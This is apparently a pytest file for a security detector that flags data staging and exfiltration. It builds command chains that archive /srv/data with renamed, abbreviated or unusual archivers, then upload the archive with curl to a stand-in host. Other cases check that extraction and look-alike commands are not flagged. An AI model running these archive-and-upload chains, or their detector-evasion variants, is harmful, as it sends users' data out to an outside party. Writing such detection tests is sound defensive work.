"""Class 6 of issue 11: archivers the catalog's names and option tables missed. GNU getopt_long
abbreviations, append and update (which create a missing archive), clusters of any length,
a renamed tar (with a renamed compressor), `python -m tarfile` spelled the ways argparse takes,
toybox's applet, and a renamed Windows archiver named by its PE header's OriginalFileName."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.adversarial.exec_records import sysmon, write
from tests.builders import launch
from tidewaiter.alerts import evidence_ref
from tidewaiter.cli.main import main
from tidewaiter.detection.signals import Detector, SignalKind

URL = "https://203.0.113.7/upload"
STAGED = [
    (["/bin/tar", "--cre", "-f", "/tmp/a.tar", "/srv/data"], "/tmp/a.tar"),
    (["/bin/tar", "--app", "--file=/tmp/a.tar", "/srv/data"], "/tmp/a.tar"),
    (["/bin/tar", "--upd", "-f", "/tmp/a.tar", "/srv/data"], "/tmp/a.tar"),
    (["/bin/tar", "-rf", "/tmp/a.tar", "/srv/data"], "/tmp/a.tar"),
    (["/bin/tar", "-uf", "/tmp/a.tar", "/srv/data"], "/tmp/a.tar"),
    (["/bin/tar", "cvvvvvvvvvvvvvvvvvvvvf", "/tmp/a.tar", "/srv/data"], "/tmp/a.tar"),
    (["/usr/local/bin/pack", "-czf", "/tmp/a.tgz", "/srv/data"], "/tmp/a.tgz"),
    (["/usr/local/bin/pack", "cJf", "/tmp/a.bin", "/srv/data"], "/tmp/a.bin"),
    (["/tmp/pack", "-I", "/tmp/sq", "-cf", "/tmp/a.tar.sq", "/srv/data"], "/tmp/a.tar.sq"),
    (["/usr/bin/python3", "-mtarfile", "-c", "/tmp/a.tar", "/srv/data"], "/tmp/a.tar"),
    (["/usr/bin/python3", "-m", "tarfile", "-v", "-c", "/tmp/a.tar", "/srv/data"], "/tmp/a.tar"),
    (["/usr/bin/python3.12", "-m", "tarfile", "--cre", "/tmp/a.tar", "/srv/data"], "/tmp/a.tar"),
    (["/usr/bin/python3", "-m", "zipfile", "-v", "-c", "/tmp/a.zip", "/srv/data"], "/tmp/a.zip"),
    (["/bin/toybox", "tar", "-czf", "/tmp/a.tgz", "/srv/data"], "/tmp/a.tgz"),
    (["/usr/bin/bsdtar", "-s", ",^,x/,", "-cf", "/tmp/a.tar", "/srv/data"], "/tmp/a.tar"),
]


@pytest.mark.parametrize("fmt", ["tetragon", "falco"])
@pytest.mark.parametrize(("archiver", "output"), STAGED, ids=lambda v: " ".join(v)[:50])
def test_an_archiver_the_names_missed_is_staged_and_joined_to_its_upload(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    fmt: str,
    archiver: list[str],
    output: str,
) -> None:
    path = write(tmp_path, fmt, [archiver, ["/usr/bin/curl", "-sT", output, URL]])

    assert main(["detect", "--json", str(path)]) == 0
    [alert] = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert alert["severity_id"] >= 4  # high: the uploader names the archive
    [staged] = [e for e in alert["evidences"] if e["data"]["signal"] == "archive"]
    assert evidence_ref(staged)["line"] == 1
    assert staged.get("file", {}).get("path") == output


def test_a_renamed_archiver_is_named_by_its_original_file_name_in_sysmon(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    chain = [
        ["C:\\Users\\Public\\svchelper.exe", "a", "-pS3cret", "C:\\t\\a.7z", "C:\\data"],
        ["C:\\Windows\\System32\\curl.exe", "-T", "C:\\t\\a.7z", URL],
    ]
    path = tmp_path / "sysmon.xml"
    path.write_bytes(sysmon(chain, original={0: "7z.exe"}))

    assert main(["detect", "--json", str(path)]) == 0
    [alert] = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    [staged] = [e for e in alert["evidences"] if e["data"]["signal"] == "archive"]
    assert staged["data"]["tool"] == "7z"
    assert alert["severity_id"] >= 4


@pytest.mark.parametrize(
    "cmd",
    [
        "tar -xf /tmp/a.tar",
        "tar --ext -f /tmp/a.tar",
        "tar --list --file=/tmp/a.tar",
        "tar --c -f /tmp/a.tar /srv",  # ambiguous (--catenate, --create, ...): tar refuses it
        "tar tvvvvvvvvvvvvvvvf /tmp/a.tar",
        "/tmp/pack -xzf /tmp/a.tgz",
        "gcc -c -fPIC -o x.o x.c",
        "cc -I/usr/include -c -f x.c",
        "helm template -c -f values.yaml chart",
        "python3 -m tarfile -e /tmp/a.tar /tmp/out",
        "python3 -m tarfile -l /tmp/a.tar",
        "gzip --decompress /tmp/a.gz",
        "xz --decomp /tmp/a.xz",
    ],
)
def test_extracting_listing_and_look_alikes_are_not_archiving(cmd: str) -> None:
    signals = Detector().signals(launch(cmd))
    assert not [s for s in signals if s.kind is SignalKind.ARCHIVE]
